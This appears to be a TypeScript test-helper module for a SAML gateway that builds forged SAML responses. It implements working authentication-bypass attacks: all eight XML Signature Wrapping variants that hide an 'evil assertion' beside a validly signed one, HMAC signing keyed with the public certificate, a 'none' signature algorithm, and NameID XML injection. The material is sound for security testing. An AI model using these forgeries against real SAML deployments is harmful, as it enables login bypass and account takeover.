import { deflateRawSync } from 'node:zlib';
import { createHmac, createSign, randomBytes } from 'node:crypto';
import { SignedXml } from 'xml-crypto';
import { encrypt } from 'xml-encryption';
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import type { KeyPair } from './simplesamlphp.server.js';

const exclusive = 'http://www.w3.org/2001/10/xml-exc-c14n#';
const enveloped = 'http://www.w3.org/2000/09/xmldsig#enveloped-signature';
const rsaSha256 = 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256';
const sha256 = 'http://www.w3.org/2001/04/xmlenc#sha256';
const [saml, samlp, ds] = [
  'urn:oasis:names:tc:SAML:2.0:assertion',
  'urn:oasis:names:tc:SAML:2.0:protocol',
  'http://www.w3.org/2000/09/xmldsig#',
];

/** What a forged answer states. Each part has a right value by default. */
export interface ForgedAnswer {
  /** The provider. */
  readonly issuer: string;
  /** The gateway's URL of the connection. */
  readonly base: string;
  readonly requestId: string;
  readonly email: string;
  readonly nameId?: string;
  /** XML inside of the NameID, in its place. */
  readonly nameIdXml?: string;
  readonly nameIdFormat?: string;
  readonly assertionIssuer?: string;
  readonly audience?: string;
  readonly recipient?: string;
  readonly destination?: string;
  /** The request that the response, or the confirmation in the assertion, names. */
  readonly responseTo?: string;
  readonly confirmedTo?: string;
  /** Seconds from now. */
  readonly from?: number;
  readonly until?: number;
  readonly id?: string;
  readonly sessionIndex?: string;
  readonly contextClass?: string;
  readonly attributes?: Readonly<Record<string, readonly string[]>>;
  readonly status?: string;
}

/** How a part is signed. */
export interface Signing {
  readonly key: string;
  readonly certificate: string;
  readonly signature?: string;
  readonly digest?: string;
}

export const newId = (): string => `_${randomBytes(16).toString('hex')}`;
const at = (seconds: number): string => new Date(Date.now() + seconds * 1000).toISOString();

/** An assertion as text, without a signature. */
export function assertionOf(answer: ForgedAnswer): string {
  const { from = -30, until = 300, id = newId(), email, attributes = {} } = answer;
  const nameId = answer.nameIdXml ?? answer.nameId ?? email;
  const format = answer.nameIdFormat ?? 'urn:oasis:names:tc:SAML:2.0:nameid-format:persistent';
  const stated = Object.entries({ email: [email], ...attributes }).map(
    ([name, values]) =>
      `<saml:Attribute Name="${name}">${values.map((value) => `<saml:AttributeValue>${value}</saml:AttributeValue>`).join('')}</saml:Attribute>`,
  );
  return [
    `<saml:Assertion xmlns:saml="${saml}" ID="${id}" Version="2.0" IssueInstant="${at(0)}">`,
    `<saml:Issuer>${answer.assertionIssuer ?? answer.issuer}</saml:Issuer>`,
    `<saml:Subject><saml:NameID Format="${format}">${nameId}</saml:NameID>`,
    '<saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer">',
    `<saml:SubjectConfirmationData NotOnOrAfter="${at(until)}" Recipient="${answer.recipient ?? `${answer.base}/acs`}" InResponseTo="${answer.confirmedTo ?? answer.requestId}"/>`,
    '</saml:SubjectConfirmation></saml:Subject>',
    `<saml:Conditions NotBefore="${at(from)}" NotOnOrAfter="${at(until)}"><saml:AudienceRestriction>`,
    `<saml:Audience>${answer.audience ?? `${answer.base}/metadata`}</saml:Audience>`,
    '</saml:AudienceRestriction></saml:Conditions>',
    `<saml:AuthnStatement AuthnInstant="${at(0)}" SessionIndex="${answer.sessionIndex ?? newId()}"><saml:AuthnContext>`,
    `<saml:AuthnContextClassRef>${answer.contextClass ?? 'urn:oasis:names:tc:SAML:2.0:ac:classes:Password'}</saml:AuthnContextClassRef>`,
    '</saml:AuthnContext></saml:AuthnStatement>',
    `<saml:AttributeStatement>${stated.join('')}</saml:AttributeStatement>`,
    '</saml:Assertion>',
  ].join('');
}

/** A response as text around an assertion. */
export function responseOf(answer: ForgedAnswer, assertion: string, id = newId()): string {
  const status = answer.status ?? 'urn:oasis:names:tc:SAML:2.0:status:Success';
  return [
    `<samlp:Response xmlns:samlp="${samlp}" xmlns:saml="${saml}" ID="${id}" Version="2.0" IssueInstant="${at(0)}"`,
    ` Destination="${answer.destination ?? `${answer.base}/acs`}" InResponseTo="${answer.responseTo ?? answer.requestId}">`,
    `<saml:Issuer>${answer.issuer}</saml:Issuer>`,
    `<samlp:Status><samlp:StatusCode Value="${status}"/></samlp:Status>`,
    assertion,
    '</samlp:Response>',
  ].join('');
}

/** Signs an element, whose signature follows its issuer. */
export function sign(
  xml: string,
  name: 'Assertion' | 'Response' | 'LogoutRequest',
  signing: Signing,
): string {
  const signer = new SignedXml({
    privateKey: signing.key,
    publicCert: signing.certificate,
    signatureAlgorithm: signing.signature ?? rsaSha256,
    canonicalizationAlgorithm: exclusive,
  });
  const xpath = `//*[local-name(.)='${name}']`;
  signer.addReference({
    xpath,
    transforms: [enveloped, exclusive],
    digestAlgorithm: signing.digest ?? sha256,
  });
  const issuer = `${xpath}/*[local-name(.)='Issuer']`;
  signer.computeSignature(xml, { location: { reference: issuer, action: 'after' }, prefix: 'ds' });
  return signer.getSignedXml();
}

/** An answer that is as it should be: a signed assertion in a response. */
export function goodAnswer(answer: ForgedAnswer, key: Signing): string {
  return responseOf(answer, sign(assertionOf(answer), 'Assertion', key));
}

/** Encrypts an assertion to a certificate. */
export async function encrypted(
  assertion: string,
  { certificate }: Pick<KeyPair, 'certificate'>,
  keyAlgorithm: 'rsa-oaep-mgf1p' | 'rsa-1_5' = 'rsa-oaep-mgf1p',
): Promise<string> {
  const data = await new Promise<string>((resolve, reject) => {
    encrypt(
      assertion,
      {
        rsa_pub: certificate,
        pem: certificate,
        encryptionAlgorithm: 'http://www.w3.org/2009/xmlenc11#aes256-gcm',
        keyEncryptionAlgorithm: `http://www.w3.org/2001/04/xmlenc#${keyAlgorithm}`,
        warnInsecureAlgorithm: false,
      },
      (error: Error | null, result) => (error ? reject(error) : resolve(result)),
    );
  });
  return `<saml:EncryptedAssertion xmlns:saml="${saml}">${data}</saml:EncryptedAssertion>`;
}

/** A signature that is keyed by the certificate's text (HMAC), in the place of one by its key. */
export function signWithHmac(xml: string, certificate: string): string {
  const signer = new SignedXml({
    privateKey: certificate,
    signatureAlgorithm: 'http://www.w3.org/2000/09/xmldsig#hmac-sha1',
    canonicalizationAlgorithm: exclusive,
  });
  signer.enableHMAC();
  const xpath = "//*[local-name(.)='Assertion']";
  signer.addReference({ xpath, transforms: [enveloped, exclusive], digestAlgorithm: sha256 });
  const location = { reference: `${xpath}/*[local-name(.)='Issuer']`, action: 'after' } as const;
  signer.computeSignature(xml, { location, prefix: 'ds' });
  return signer.getSignedXml();
}

/** A signature without an algorithm: its value is the digest's own hash. */
export function signWithNone(xml: string, key: Signing): string {
  return sign(xml, 'Assertion', key)
    .replace(rsaSha256, 'http://www.w3.org/2000/09/xmldsig#none')
    .replace(/(<ds:SignatureValue>)[^<]*/, `$1${createHmac('sha256', '').update('').digest('base64')}`);
}

/** The ways to wrap a signed element (Somorovsky et al., “On Breaking SAML”, 2012), numbered as in the literature. */
export const wrappings = ['XSW1', 'XSW2', 'XSW3', 'XSW4', 'XSW5', 'XSW6', 'XSW7', 'XSW8'] as const;

/**
 * Wraps a response that is signed by its provider, so that a reader who looks elsewhere than the signature finds the evil assertion.
 * @param signedAs what the provider has signed: XSW1 and XSW2 need a signed response, the others a signed assertion.
 */
export function wrapped(way: (typeof wrappings)[number], good: string, evilAssertion: string): string {
  const document = new DOMParser().parseFromString(good, 'text/xml');
  const root = document.documentElement;
  const evil = document.importNode(
    new DOMParser().parseFromString(evilAssertion, 'text/xml').documentElement,
    true,
  );
  const assertion = within(root, saml, 'Assertion');
  const signature = within(way === 'XSW1' || way === 'XSW2' ? root : assertion, ds, 'Signature');
  const make = (namespace: string, name: string): Element => document.createElementNS(namespace, name);
  const put = (parent: Element, child: Element): Element => {
    parent.appendChild(child);
    return parent;
  };
  const copy = (element: Element): Element => {
    const copied = element.cloneNode(true);
    if (!isElement(copied)) {
      throw new Error('not an element');
    }
    return copied;
  };
  switch (way) {
    case 'XSW1':
    case 'XSW2': {
      // The signed response goes into its own signature, or before it; the root has another id and the evil assertion.
      const original = copy(root);
      original.removeChild(within(original, ds, 'Signature'));
      root.setAttribute('ID', newId());
      root.replaceChild(evil, assertion);
      if (way === 'XSW1') {
        signature.appendChild(put(make(ds, 'ds:Object'), original));
      } else {
        root.insertBefore(original, signature);
      }
      break;
    }
    case 'XSW3':
      // The evil assertion is the first of two.
      root.insertBefore(evil, assertion);
      break;
    case 'XSW4':
      // The evil assertion holds the signed one.
      root.replaceChild(evil, assertion);
      evil.appendChild(assertion);
      break;
    case 'XSW5':
    case 'XSW6': {
      // The evil assertion has the signature; the signed one stands after it, or in the signature.
      const original = copy(assertion);
      original.removeChild(within(original, ds, 'Signature'));
      assertion.removeChild(signature);
      evil.insertBefore(signature, within(evil, saml, 'Subject'));
      root.replaceChild(evil, assertion);
      if (way === 'XSW5') {
        root.appendChild(original);
      } else {
        signature.appendChild(put(make(ds, 'ds:Object'), original));
      }
      break;
    }
    case 'XSW7':
      // The evil assertion is in extensions, which may hold anything.
      root.insertBefore(put(make(samlp, 'samlp:Extensions'), evil), assertion);
      break;
    case 'XSW8': {
      // The signed one is in the signature of the evil one.
      const original = copy(assertion);
      original.removeChild(within(original, ds, 'Signature'));
      root.replaceChild(evil, assertion);
      assertion.removeChild(signature);
      evil.insertBefore(signature, within(evil, saml, 'Subject'));
      signature.insertBefore(put(make(ds, 'ds:Object'), original), signature.firstChild);
      break;
    }
  }
  return new XMLSerializer().serializeToString(document);
}

function within(parent: Element, namespace: string, name: string): Element {
  for (let index = 0; index < parent.childNodes.length; index += 1) {
    const node = parent.childNodes[index];
    if (isElement(node) && node.localName === name && node.namespaceURI === namespace) {
      return node;
    }
  }
  throw new Error(`no ${name} in ${parent.localName}`);
}

function isElement(node: Node | undefined): node is Element {
  return node?.nodeType === 1;
}

/** A logout request as text, without a signature. */
export function logoutRequestOf(given: {
  readonly issuer: string;
  readonly destination: string;
  readonly nameId: string;
  readonly sessionIndex?: string | undefined;
  readonly id?: string;
  /** Seconds from now. */
  readonly issued?: number;
}): string {
  const index =
    given.sessionIndex === undefined ? '' : `<samlp:SessionIndex>${given.sessionIndex}</samlp:SessionIndex>`;
  return [
    `<samlp:LogoutRequest xmlns:samlp="${samlp}" xmlns:saml="${saml}" ID="${given.id ?? newId()}" Version="2.0"`,
    ` IssueInstant="${at(given.issued ?? 0)}" Destination="${given.destination}">`,
    `<saml:Issuer>${given.issuer}</saml:Issuer><saml:NameID>${given.nameId}</saml:NameID>${index}`,
    '</samlp:LogoutRequest>',
  ].join('');
}

/** A message in the query, signed as HTTP-Redirect has it. */
export function redirectQuery(
  xml: string,
  key: Pick<Signing, 'key'>,
  { relayState, algorithm = rsaSha256 }: { readonly relayState?: string; readonly algorithm?: string } = {},
): string {
  const encode = encodeURIComponent;
  const parts = [
    `SAMLRequest=${encode(deflateRawSync(xml).toString('base64'))}`,
    ...(relayState === undefined ? [] : [`RelayState=${encode(relayState)}`]),
    `SigAlg=${encode(algorithm)}`,
  ];
  const hash = algorithm.endsWith('sha1') ? 'RSA-SHA1' : 'RSA-SHA256';
  const signature = createSign(hash).update(parts.join('&')).sign(key.key, 'base64');
  return [...parts, `Signature=${encode(signature)}`].join('&');
}
